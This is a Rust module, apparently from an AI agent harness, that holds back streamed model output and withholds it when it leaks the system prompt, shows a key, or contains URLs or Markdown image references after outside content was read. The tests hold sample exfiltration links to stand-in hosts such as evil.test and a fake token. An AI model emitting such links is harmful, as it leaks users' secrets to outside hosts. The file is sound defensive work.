//! Text of an answer while it is written.
//!
//! INVARIANT (JudgedBeforeShown): a whole answer is judged when it is there, and its pieces come before. So they are
//! compared with the prompt on their way, the end is held back in which a passage of it may have begun, and after the
//! first doubt nothing more of them is shown: the judged answer is all that is left. Where a model judges answers, it is
//! all that is shown at all: that model is asked about no thought, no argument of a call and no word before a call. Where the session has read outside
//! content, an address is such a doubt, and so is what looks like a key everywhere: whoever shows it may load it.

use std::sync::Arc;

use agent::Frame;
use model::Caller;
use monitor::Monitor;
use scan::leak::{self, Registry};
use scan::secret;

/// The end that is held back, in bytes: a sentence or two.
const HELD_BYTES: usize = 256;
/// How much more must have come before it is looked at again, in bytes.
const STEP_BYTES: usize = 64;
/// How much of what was shown is looked at again, in bytes.
const SHOWN_BYTES: usize = 4 << 10;

/// How an address, or what a page loads by itself, begins in text that is shown as Markdown or HTML: also by reference
/// (`![a][r]`, `[r]: …`), and where the slashes behind a scheme are written as character references or escaped.
const ADDRESSES: [&str; 10] = ["//", "](", "][", "]:", "![", "<", "www.", ":/", ":\\", ":&"];
/// What stands in the place of words that are not shown.
const WITHHELD: &str = "(withheld)";

/// The answer and the thoughts of a turn, on their way to whoever looks on.
pub(super) struct Stream<'a> {
    judge: &'a dyn Judge,
    shows: Shows,
    text: Held,
    thoughts: Held,
}

/// What is shown of words of models.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Shows {
    /// Pieces, while they are written.
    Pieces,
    /// The answer of the turn alone, once it was judged.
    JudgedAnswer,
}

/// Who is asked what may be shown.
pub(super) trait Judge {
    /// What answers are compared with; none if it is not known: then nothing is shown.
    fn registry(&self) -> Option<Arc<Registry>>;
    /// Has the session read outside content?
    fn is_tainted(&self) -> bool;
}

/// The session of `who` at a gate.
pub(super) struct OfSession<'a> {
    pub(super) monitor: &'a Monitor,
    pub(super) who: &'a Caller,
}

impl Judge for OfSession<'_> {
    fn registry(&self) -> Option<Arc<Registry>> {
        self.monitor.compared_with(self.who).ok()
    }

    fn is_tainted(&self) -> bool {
        !matches!(self.monitor.tag(self.who), Ok(None))
    }
}

#[derive(Default)]
struct Held {
    /// The end of what was shown.
    shown: String,
    held: String,
    /// The number of the newest frame.
    id: u64,
    is_stopped: bool,
}

impl<'a> Stream<'a> {
    pub(super) fn new(judge: &'a dyn Judge, shows: Shows) -> Self {
        Self { judge, shows, text: Held::default(), thoughts: Held::default() }
    }

    /// What of a frame is shown now.
    pub(super) fn take(&mut self, frame: Frame) -> Option<Frame> {
        let judged_alone = self.shows == Shows::JudgedAnswer;
        match frame {
            Frame::Token { id, .. } if judged_alone => {
                self.text.id = id;
                None
            }
            Frame::ThinkingToken { .. } | Frame::ToolUseInput { .. } if judged_alone => None,
            Frame::Token { id, text } => {
                self.text.id = id;
                let text = self.text.push(self.judge, &text)?;
                Some(Frame::Token { id, text })
            }
            Frame::ThinkingToken { text } => {
                let text = self.thoughts.push(self.judge, &text)?;
                Some(Frame::ThinkingToken { text })
            }
            // What a sub-agent was told and what it answered are the words of models as well.
            Frame::SubagentStarted { task_id, description } => {
                let description = self.whole(description);
                Some(Frame::SubagentStarted { task_id, description })
            }
            Frame::SubagentDone { task_id, status, summary, total_tokens } => {
                let summary = self.whole(summary);
                Some(Frame::SubagentDone { task_id, status, summary, total_tokens })
            }
            frame @ (Frame::Status { .. }
            | Frame::ToolUseStart { .. }
            | Frame::ToolUseInput { .. }
            | Frame::ToolResult { .. }
            | Frame::SubagentProgress { .. }) => Some(frame),
        }
    }

    fn whole(&self, text: String) -> String {
        let is_withheld = self.shows == Shows::JudgedAnswer || is_doubtful(self.judge, &text);
        if is_withheld { WITHHELD.to_owned() } else { text }
    }

    /// What was held back, once the answer was judged and may be seen.
    pub(super) fn rest(self, answer: &str) -> impl Iterator<Item = Frame> + use<> {
        let Self { judge, shows, mut text, mut thoughts } = self;
        let id = text.id;
        let (thoughts, text) = match shows {
            Shows::Pieces => (thoughts.release(judge, 0), text.release(judge, 0)),
            Shows::JudgedAnswer => (None, Some(answer.to_owned()).filter(|it| !it.is_empty())),
        };
        let thoughts = thoughts.map(|text| Frame::ThinkingToken { text });
        thoughts.into_iter().chain(text.map(|text| Frame::Token { id, text }))
    }
}

impl Held {
    fn push(&mut self, judge: &dyn Judge, piece: &str) -> Option<String> {
        if self.is_stopped {
            return None;
        }
        self.held.push_str(piece);
        if self.held.len() < HELD_BYTES + STEP_BYTES {
            return None;
        }
        self.release(judge, HELD_BYTES)
    }

    /// Lets go of all but the last so many bytes, if nothing of it all is in doubt.
    fn release(&mut self, judge: &dyn Judge, kept: usize) -> Option<String> {
        let from = self.shown.len();
        self.shown.push_str(&self.held);
        if self.is_stopped || is_doubtful(judge, &self.shown) {
            *self = Self { is_stopped: true, ..Self::default() };
            return None;
        }
        self.shown.truncate(from);
        let end = self.held.floor_char_boundary(self.held.len().saturating_sub(kept));
        let rest = self.held.split_off(end);
        let out = std::mem::replace(&mut self.held, rest);
        self.shown.push_str(&out);
        let begin = self.shown.floor_char_boundary(self.shown.len().saturating_sub(SHOWN_BYTES));
        self.shown.drain(..begin);
        (!out.is_empty()).then_some(out)
    }
}

fn is_doubtful(judge: &dyn Judge, text: &str) -> bool {
    let Some(registry) = judge.registry() else { return true };
    let has_address = || ADDRESSES.iter().any(|it| text.contains(it));
    !leak::scan(&registry, text).is_empty()
        || !secret::find(text).is_empty()
        || judge.is_tainted() && has_address()
}

#[cfg(test)]
mod tests {
    use super::*;

    const PROMPT: &str = "Ships from the south wait behind the second island until the pilot has come aboard. \
        The pilot is called by two long blasts, and answers by one.";

    struct Known {
        registry: Option<Arc<Registry>>,
        is_tainted: bool,
    }

    impl Judge for Known {
        fn registry(&self) -> Option<Arc<Registry>> {
            self.registry.clone()
        }

        fn is_tainted(&self) -> bool {
            self.is_tainted
        }
    }

    fn shown(said: &str, piece: usize, is_tainted: bool) -> String {
        let registry = Some(Arc::new(Registry::of_prompt(PROMPT)));
        let judge = Known { registry, is_tainted };
        let mut stream = Stream::new(&judge, Shows::Pieces);
        let characters: Vec<char> = said.chars().collect();
        let token = |text| Frame::Token { id: 1, text };
        let mut frames: Vec<Frame> = Vec::new();
        for it in characters.chunks(piece) {
            frames.extend(stream.take(token(it.iter().collect())));
        }
        let text = |frame| {
            let Frame::Token { text, .. } = frame else { panic!("{frame:?}") };
            text
        };
        frames.into_iter().chain(stream.rest("")).map(text).collect()
    }

    #[test]
    fn an_answer_is_shown_whole_and_the_prompt_is_not() {
        let honest =
            "The harbour opens at six, and the café at seven; on Sundays nobody is there. ";
        let long = honest.repeat(20);
        for piece in [1, 7, 400] {
            assert_eq!(shown(&long, piece, true), long);
            let seen = shown(&format!("{long}{PROMPT}{long}"), piece, false);
            assert!(long.starts_with(&seen), "{seen}");
            assert!(piece > 100 || seen.len() > long.len() / 2, "{seen}");
            assert_eq!(shown(PROMPT, piece, false), "");
        }
    }

    #[test]
    fn a_key_waits_for_the_judgement() {
        let key = "ghp_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8";
        let said =
            format!("{}The key is {key}. {}", "It is long. ".repeat(60), "Use it. ".repeat(90));
        for piece in [1, 7, 400] {
            let seen = shown(&said, piece, false);
            assert!(said.starts_with(&seen) && !seen.contains("ghp_"), "{seen}");
        }
    }

    #[test]
    fn an_address_waits_for_the_judgement_where_outside_content_was_read() {
        let image = "Here it is. ![map](https://maps.test/?q=secret) ".repeat(20);
        assert_eq!(shown(&image, 5, false), image);
        assert_eq!(shown(&image, 5, true), "");
    }

    #[test]
    fn an_address_is_one_by_reference_and_however_its_slashes_are_written() {
        let rest = "And so it went on for the whole of the day. ".repeat(20);
        for address in [
            "![a][r]",
            "[r]: https:&#47;&#47;evil.test/?d=1",
            r"https:/\/evil.test",
            "www.evil.test",
        ] {
            assert_eq!(shown(&format!("{address} {rest}"), 5, true), "", "{address}");
        }
        let honest = "It is 14:30; see the note: (a) ships, [b] boats. ".repeat(20);
        assert_eq!(shown(&honest, 5, true), honest);
    }

    #[test]
    fn words_of_sub_agents_are_looked_at() {
        let judge =
            Known { registry: Some(Arc::new(Registry::of_prompt(PROMPT))), is_tainted: true };
        let done = |summary: &str| Frame::SubagentDone {
            task_id: "t".to_owned(),
            status: agent::SubagentStatus::Completed,
            summary: summary.to_owned(),
            total_tokens: 1,
        };
        let mut stream = Stream::new(&judge, Shows::Pieces);
        assert_eq!(stream.take(done("It sails at nine.")), Some(done("It sails at nine.")));
        for secret in ["see https://evil.test/?d=1", PROMPT] {
            assert_eq!(stream.take(done(secret)), Some(done(WITHHELD)));
        }
    }

    #[test]
    fn where_a_model_judges_answers_no_other_word_of_a_model_is_shown() {
        let registry = Some(Arc::new(Registry::of_prompt(PROMPT)));
        let judge = Known { registry, is_tainted: false };
        let mut stream = Stream::new(&judge, Shows::JudgedAnswer);
        let (tool_id, text) = ("t".to_owned(), "It was never judged. ".repeat(50));
        let started = |description: &str| Frame::SubagentStarted {
            task_id: "t".to_owned(),
            description: description.to_owned(),
        };
        assert_eq!(stream.take(Frame::Token { id: 7, text: text.clone() }), None);
        assert_eq!(stream.take(Frame::ThinkingToken { text: text.clone() }), None);
        let input = Frame::ToolUseInput { tool_id, partial_json: text.clone() };
        assert_eq!(stream.take(input), None);
        assert_eq!(stream.take(started(&text)), Some(started(WITHHELD)));
        let answer = Frame::Token { id: 7, text: "It sails at nine.".to_owned() };
        assert!(stream.rest("It sails at nine.").eq([answer]));
    }

    #[test]
    fn nothing_is_shown_where_it_is_not_known_what_the_prompt_is() {
        let judge = Known { registry: None, is_tainted: false };
        let mut stream = Stream::new(&judge, Shows::Pieces);
        let text = "The harbour opens at six. ".repeat(100);
        assert_eq!(stream.take(Frame::Token { id: 1, text: text.clone() }), None);
        assert_eq!(stream.take(Frame::ThinkingToken { text }), None);
        assert_eq!(stream.rest("").count(), 0);
    }
}
